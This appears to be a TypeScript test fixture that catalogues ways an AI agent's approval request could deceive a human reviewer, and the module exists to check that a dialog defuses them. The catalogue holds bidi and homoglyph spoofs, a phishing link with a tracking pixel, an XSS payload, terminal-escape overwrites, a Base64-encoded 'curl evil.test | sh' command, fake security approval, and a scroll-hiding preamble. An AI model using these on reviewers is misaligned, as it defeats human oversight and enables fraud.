// Known ways of forging what a reviewer sees: what an agent, or whoever wrote to it, would put in, and what a dialog makes of it that just shows it.

export type Trick = {
  readonly id: string;
  readonly name: string;
  /** The hope behind it. */
  readonly hope: string;
  /** The argument it hides in; the agent's statement where there is none. */
  readonly argument: string | undefined;
  readonly text: string;
  /** What a plain dialog shows: the text itself where nothing is said. */
  readonly plain?: Plain;
  /** What the package does about it, where it has no note of its own. */
  readonly stays?: string;
};

/** A dialog that renders links, one that obeys a terminal's escapes, one that cuts. */
export type Plain = { readonly kind: "link"; readonly shown: string } | { readonly kind: "text"; readonly shown: string } | { readonly kind: "cut"; readonly lines: number };

const [RLO, ZWSP, WJ, CYRILLIC_A, ESC] = ["\u202e", "\u200b", "\u2060", "\u0430", "\u001b"];

export const TRICKS: readonly Trick[] = [
  { id: "bidi", name: "Letters that run backwards", hope: "A program passes for a PDF.", argument: "attachment", text: `receipt_${RLO}fdp.exe` },
  { id: "zero-width", name: "Invisible characters", hope: "Two different recipients look the same.", argument: "beneficiary", text: `Ann${ZWSP} Mil${WJ}ler` },
  { id: "homoglyph", name: "A look-alike domain", hope: "One Cyrillic letter leads to another site.", argument: "callback", text: `https://p${CYRILLIC_A}ypal.com/refund` },
  { id: "link", name: "A link in Markdown", hope: "The dialog renders it, and the reviewer clicks.", argument: "policy", text: "**Approved.** [See refund policy](https://evil.test/login) ![](https://evil.test/pixel.png)", plain: { kind: "link", shown: "See refund policy" }, stays: "stays text: nothing bold, no link, no picture that tells who looked" },
  { id: "html", name: "Markup", hope: "The dialog becomes the attacker’s page.", argument: "note", text: "<img src=x onerror=alert(1)> <b>Verified</b>", plain: { kind: "text", shown: "Verified" }, stays: "stays text: no element, no script" },
  { id: "ansi", name: "Terminal escapes", hope: "The line before is wiped and written anew.", argument: "memo", text: `amount 9,000.00${ESC}[2K${ESC}[1Gamount 4.00`, plain: { kind: "text", shown: "amount 4.00" } },
  { id: "base64", name: "A command in Base64", hope: "Nobody decodes it by eye.", argument: "token", text: "Y3VybCBodHRwczovL2V2aWwudGVzdC94IHwgc2ggIyBub3RoaW5nIHRvIHNlZQ==" },
  { id: "approved", name: "“Approved by security”", hope: "The agent’s words pass for the host’s.", argument: undefined, text: "APPROVED BY SECURITY (SEC-1042). URGENT: press Approve within 2 minutes. Only pays $12 back." },
  { id: "preamble", name: "A long harmless preamble", hope: "What matters scrolls out of sight.", argument: undefined, text: `${"This step is routine and was checked before.\n".repeat(400)}Then the account is closed.`, plain: { kind: "cut", lines: 3 }, stays: "comes last, after what would run and what each answer does" },
];

/** An action and its context with some tricks in them. */
export function forged(action: Record<string, unknown>, context: Record<string, unknown>, ids: readonly string[]): { action: Record<string, unknown>; context: Record<string, unknown> } {
  const chosen = TRICKS.filter(({ id }) => ids.includes(id));
  const args = chosen.filter(({ argument }) => argument !== undefined).map(({ argument, text }) => [argument!, text] as const);
  const words = chosen.filter(({ argument }) => argument === undefined).map(({ text }) => text);
  const [given, claims] = [objectOf(action["args"]), objectOf(context["claims"])];
  return {
    action: args.length === 0 ? action : { ...action, args: { ...given, ...Object.fromEntries(args) } },
    context: words.length === 0 ? context : { ...context, claims: { ...claims, reasoning: words.join("\n") } },
  };
}

function objectOf(value: unknown): Record<string, unknown> {
  return typeof value === "object" && value !== null && !Array.isArray(value) ? (value as Record<string, unknown>) : {};
}
